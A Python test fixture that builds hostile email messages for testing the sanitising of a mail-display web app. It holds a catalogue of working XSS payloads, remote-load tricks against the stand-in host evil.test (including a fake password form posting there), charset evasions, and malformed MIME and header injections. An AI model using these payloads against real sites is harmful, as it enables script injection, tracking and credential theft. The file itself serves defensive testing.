"""Messages that try to run, fetch, mislead or break something when somebody looks at them. Each is
the bytes of a whole message, under a name that says what it tries.

`{evil}` is a server that nobody may ask for anything; `{site}` is the site that shows the message.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage

from tests.web.letters import letter, with_image

EVIL = "http://evil.test"

HTML = {
    "script": "<script>fetch('{evil}/script')</script>",
    "script-source": "<script src='{evil}/s.js'></script>",
    "script-module": "<script type=module>import '{evil}/m.js'</script>",
    "script-in-title": "<title><script>top.location='{evil}/t'</script></title>",
    "script-unclosed": "<scr<script>ipt>fetch('{evil}/u')</scr</script>ipt>",
    "script-in-noscript": '<noscript><p title="</noscript><img src={evil}/n onerror=alert(1)>">',
    "script-in-textarea": "<textarea><script>alert(1)</script></textarea><script>alert(2)</script>",
    "script-in-template": "<template><img src='{evil}/tpl'><script>alert(1)</script></template>",
    "script-in-comment": "<!--><img src='{evil}/c' onerror=alert(1)>-->",
    "script-in-conditional": "<!--[if gte mso 9]><img src='{evil}/mso'><![endif]-->",
    "script-in-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "style-element": "<style>body{background:url({evil}/bg)}</style>",
    "style-import": "<style>@import '{evil}/import.css';</style>",
    "style-import-url": "<style>@import url({evil}/i2.css)</style>",
    "style-font": (
        "<style>@font-face{font-family:x;src:url({evil}/f.woff)}p{font-family:x}</style><p>f"
    ),
    "style-attribute": "<p style=\"background-image:url('{evil}/attr')\">x</p>",
    "style-escaped": "<p style='background:\\75rl({evil}/esc)'>x</p>",
    "style-colour-url": "<p style='background-color:url({evil}/col)'>x</p>",
    "style-expression": "<p style='width:expression(alert(1))'>x</p>",
    "style-behaviour": (
        "<p style='behavior:url({evil}/b.htc);-moz-binding:url({evil}/x.xml#x)'>x</p>"
    ),
    "style-list-image": "<ul style='list-style:url({evil}/li)'><li>x</ul>",
    "style-cursor": "<p style='cursor:url({evil}/cur),auto'>x</p>",
    "style-image-set": "<p style='background:image-set(\"{evil}/is\" 1x)'>x</p>",
    "style-overlay": (
        "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in</div>"
    ),
    "style-animation": "<p style='animation:x 1s' onanimationstart=alert(1)>x</p>",
    "link-stylesheet": "<link rel=stylesheet href='{evil}/l.css'>",
    "link-prefetch": (
        "<link rel=prefetch href='{evil}/p'><link rel=dns-prefetch href='//evil.test'>"
    ),
    "link-preload": (
        "<link rel=preload as=image href='{evil}/pl'><link rel=preconnect href='{evil}'>"
    ),
    "link-icon": "<link rel=icon href='{evil}/i.ico'><link rel=manifest href='{evil}/m.json'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={evil}/refresh'>",
    "meta-refresh-data": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>"
    ),
    "meta-policy": (
        "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='{evil}/csp'>"
    ),
    "meta-cookie": "<meta http-equiv=Set-Cookie content='sessionid=x'>",
    "base": "<base href='{evil}/'><img src='relative.png'><a href='x'>y</a>",
    "base-target": "<base target=_top><a href='{evil}'>x</a>",
    "form": "<form action='{evil}/form'><input name=password><button>Sign in</button></form>",
    "form-auto": "<form id=f action='{evil}/auto'></form><script>f.submit()</script>",
    "form-action": (
        "<button formaction='{evil}/fa' form=x>x</button><input type=image src='{evil}/ii'>"
    ),
    "form-focus": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(2)>",
    "handler-error": "<img src=x onerror=alert(1)>",
    "handler-load": "<body onload=alert(1)><img src='cid:one@x.test' onload=alert(2)>",
    "handler-toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler-pointer": (
        "<p onpointerover=alert(1) onmouseover=alert(2) style='font-size:90px'>x</p>"
    ),
    "handler-slash": "<img/src='x'/onerror=alert(1)//>",
    "handler-newline": "<img src=x on\nerror=alert(1)><img src=x onerror\n=\nalert(2)>",
    "handler-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "svg": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "svg-image": "<svg><image href='{evil}/si' xlink:href='{evil}/sx'/></svg>",
    "svg-use": "<svg><use href='{evil}/u.svg#x'/></svg>",
    "svg-animate": (
        "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a></svg>"
    ),
    "svg-foreign": "<svg><foreignObject><iframe src='{evil}/fo'></iframe></foreignObject></svg>",
    "svg-style": "<svg><style><img src='</style><img src=x onerror=alert(1)>'></svg>",
    "mathml": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>"
    ),
    "mathml-link": "<math href='javascript:alert(1)'><mtext>x</mtext></math>",
    "mathml-annotation": (
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></math>"
    ),
    "object": "<object data='{evil}/o' type='text/html'></object>",
    "embed": "<embed src='{evil}/e.swf'>",
    "applet": "<applet code=X codebase='{evil}/'></applet>",
    "iframe": "<iframe src='{evil}/if'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>top.alert(1)</script>'></iframe>",
    "frameset": "<frameset><frame src='{evil}/fs'></frameset>",
    "portal": "<portal src='{evil}/po'></portal><fencedframe src='{evil}/ff'></fencedframe>",
    "video": "<video src='{evil}/v.mp4' poster='{evil}/p.png' autoplay></video>",
    "audio": "<audio src='{evil}/a.mp3' autoplay></audio><track src='{evil}/t.vtt'>",
    "picture": (
        "<picture><source srcset='{evil}/ps 1x'>"
        "<img src='{evil}/pi' srcset='{evil}/pss 2x'></picture>"
    ),
    "background": "<table background='{evil}/tb'><td background='{evil}/td'>x</table>",
    "image-remote": "<img src='{evil}/i.gif' width=1 height=1>",
    "image-relative": "<img src='/accounts/logout/'><img src='{site}/projects/'>",
    "image-no-scheme": "<img src='//evil.test/ns.gif'><img src='\\\\evil.test\\ns2.gif'>",
    "image-spaced": "<img src=' \t\nht\ntp://evil.test/sp.gif'>",
    "image-lowsrc": "<img lowsrc='{evil}/lo' dynsrc='{evil}/dy' longdesc='{evil}/ld' usemap='#m'>",
    "image-ping": "<a href='{evil}/a' ping='{evil}/ping'>x</a>",
    "link-javascript": "<a href='javascript:alert(1)'>x</a><a href='java\tscript:alert(2)'>y</a>",
    "link-javascript-entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "link-data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-top": "<a href='{evil}/top' target=_top>x</a><area href='{evil}/area'>",
    "link-download": "<a href='{evil}/file.exe' download>x</a>",
    "image-data-svg": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "image-data-html": "<img src='data:text/html,<script>alert(1)</script>'>",
    "cid-script": "<img src='cid:one@x.test\"onerror=alert(1)'>",
    "cid-escape": "<img src='cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E'>",
    "cid-forged": "<img src='cid:00000000000000000000000000000000-0'><img src='{evil}/cf'>",
    "attribute-break": "<img alt='\"><img src={evil}/ab onerror=alert(1)>' src='cid:one@x.test'>",
    "title-break": (
        "<a title='\"><script>alert(1)</script>' href='{evil}/\"><script>alert(2)</script>'>x</a>"
    ),
    "hole-break": "<img src='http://evil.test/\"><script>alert(1)</script>'>",
    "tag-in-text": (
        "&lt;img src={evil}/tt onerror=alert(1)&gt; &lt;script&gt;alert(2)&lt;/script&gt;"
    ),
    "end-of-page": "</body></html><script>alert(1)</script><html><body onload=alert(2)>",
    "null-bytes": "<scr\x00ipt>alert(1)</scr\x00ipt><img src='{evil}\x00/nb'>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><p title='</xmp><img src={evil}/xmp onerror=alert(1)>'></xmp>",
    "select-breakout": (
        "<select><template><style><!--</style><a rel='--></style><img src=x onerror=alert(1)>'>"
    ),
    "table-foster": (
        "<table><script>alert(1)</script><td><img src='{evil}/tf' onerror=alert(2)></table>"
    ),
    "nested-forms": (
        "<form><div></form><form action='{evil}/nf'><input name=x autofocus onfocus=alert(1)>"
    ),
    "clobber": (
        "<img name=cookie src='cid:one@x.test'><form name=body><input name=firstChild></form>"
    ),
    "custom-element": "<x-evil onclick=alert(1) tabindex=1 id=x onfocus=alert(2)>x</x-evil>",
    "popover": (
        "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>"
    ),
    "dialog": "<dialog open onclose=alert(1)><p>Sign in to Deskpost</dialog>",
    "deep": "<div>" * 3_000 + "<img src='{evil}/deep'>",
    "many-attributes": "<p " + " ".join(f"a{n}=1" for n in range(3_000)) + "><img src='{evil}/ma'>",
    "many-images": "<img src='{evil}/mi'>" * 3_000,
}

_CRLF = "\r\n"


def _raw(headers: str, body: bytes) -> bytes:
    head = "From: Eve <eve@x.test>\nTo: it@desk.test\nSubject: Hello\nMIME-Version: 1.0\n" + headers
    return head.replace("\n", _CRLF).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def _html(charset: str, body: bytes, encoding: str = "8bit") -> bytes:
    headers = f"Content-Type: text/html; charset={charset}\nContent-Transfer-Encoding: {encoding}"
    return _raw(headers, body)


_SCRIPT = "<script>alert(1)</script><img src='http://evil.test/enc' onerror=alert(2)>"


def _encodings() -> dict[str, bytes]:
    utf7 = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src=http://evil.test/u7+AD4-"
    overlong = b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"
    jis = b"\x1b$B<script>alert(1)</script>\x1b(B<img src=http://evil.test/jis>"
    broken = base64.b64encode(_SCRIPT.encode())[:-3] + b"!!\r\n=== \x00\xff=\r\nPGltZyBzcmM9"
    return {
        "utf-7": _html("utf-7", utf7),
        "utf-7-undeclared": _html("us-ascii", utf7),
        "overlong": _html("utf-8", overlong),
        "utf-16": _html("utf-16", _SCRIPT.encode("utf-16")),
        "utf-32": _html("utf-32", _SCRIPT.encode("utf-32")),
        "ebcdic": _html("cp037", _SCRIPT.encode("cp037")),
        "jis": _html("iso-2022-jp", jis),
        "hz": _html("hz-gb-2312", b"~{<script>alert(1)</script>~}<img src=http://evil.test/hz>"),
        "rot13": _html("rot_13", b"<fpevcg>nyreg(1)</fpevcg>"),
        "unknown-charset": _html('"><script>alert(1)</script>', _SCRIPT.encode()),
        "shift-jis-swallow": _html("shift_jis", b"<a title='\x81'><img src=x onerror=alert(1)>'>"),
        "meta-charset": _html("utf-8", b"<meta charset=utf-7>" + utf7),
        "broken-base64": _html("utf-8", broken, "base64"),
        "broken-quoted": _html(
            "utf-8", b"=3Cscript=3Ealert(1)=3C/script=\r\n=3E=ZZ=3", "quoted-printable"
        ),
        "unknown-encoding": _html("utf-8", _SCRIPT.encode(), "x-evil"),
        "lone-surrogates": _html("utf-8", b"\xed\xa0\x80" + _SCRIPT.encode()),
    }


def _structures() -> dict[str, bytes]:
    evil = letter(_SCRIPT)
    nested = EmailMessage()
    nested["Subject"], nested["From"] = "Fwd", "eve@x.test"
    nested.set_content("see below")
    nested.add_attachment(evil)
    named = letter("<p>x</p>")
    named.add_attachment(
        _SCRIPT.encode(), "text", "html", filename='"><script>alert(1)</script>.html'
    )
    deep = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" * 200 + _SCRIPT.encode()
    return {
        "nested-message": nested.as_bytes(),
        "attachment-name": named.as_bytes(),
        "deep-multiparts": deep,
        "boundary-markup": _raw(
            'Content-Type: multipart/mixed; boundary="<script>alert(1)</script>"',
            b"--<script>alert(1)</script>\r\nContent-Type: text/html\r\n\r\n" + _SCRIPT.encode(),
        ),
        "content-type-markup": _raw("Content-Type: <script>alert(1)</script>/html", b"<b>x"),
        "no-headers": b"\r\n\r\n" + _SCRIPT.encode(),
        "only-newlines": b"\n" * 50_000,
        "binary": bytes(range(256)) * 200,
        "empty": b"\r\n",
        "svg-as-image": with_image("<img src='cid:one@x.test'>")
        .as_bytes()
        .replace(b"image/png", b"image/svg+xml"),
        "html-as-image": with_image("<img src='cid:one@x.test'>")
        .as_bytes()
        .replace(b"image/png", b'image/png;x="><script>alert(1)</script>"'),
        "cid-markup": with_image(
            "<img src='cid:one@x.test'>", '<one@x.test"onerror=alert(1)>'
        ).as_bytes(),
    }


def _headers() -> dict[str, bytes]:
    markup = "<script>alert(1)</script><img src=http://evil.test/h onerror=alert(2)>"
    word = base64.b64encode(markup.encode()).decode()
    return {
        "header-markup": _raw(f"X-Evil: {markup}", b"x"),
        "header-name": _raw("X-<script>alert(1)</script>: x", b"x"),
        "header-encoded": _raw(f"X-Evil: =?utf-8?b?{word}?=", b"x"),
        "header-huge": _raw("X-Huge: " + "A" * 500_000, b"x"),
        "header-many": _raw("\n".join(f"X-{n}: {markup}" for n in range(5_000)), b"x"),
        "header-bidi": _raw("X-Bidi: \u202egnp.exe\u2066\u200f\u2028x\u0085", b"\xe2\x80\xae"),
        "header-controls": _raw("X-Controls: \x01\x07\x1b[31m\x08\x7f", b"\x1b[2J"),
        "received-markup": _raw(
            f"Received: from {markup} by {markup} with {markup}; Mon, 99 Foo 20 99:99:99", b"x"
        ),
        "received-loop": _raw("\n".join("Received: from a by b; x" for _ in range(2_000)), b"x"),
        "name-markup": _raw(f'Reply-To: "{markup}" <a@x.test>\nSender: <{markup}>', b"x"),
        "subject-markup": _raw(f"Subject: </title>{markup}", b"x"),
        "text-markup": _raw("Content-Type: text/plain", markup.encode()),
        "text-link": _raw("Content-Type: text/plain", b"javascript:alert(1) http://evil.test/t"),
    }


def letters(site: str) -> dict[str, bytes]:
    """Return all hostile messages by name; `site` is the address of the site under test."""
    made = {
        f"html-{name}": with_image(html.replace("{evil}", EVIL).replace("{site}", site)).as_bytes()
        for name, html in HTML.items()
    }
    return made | _encodings() | _structures() | _headers()
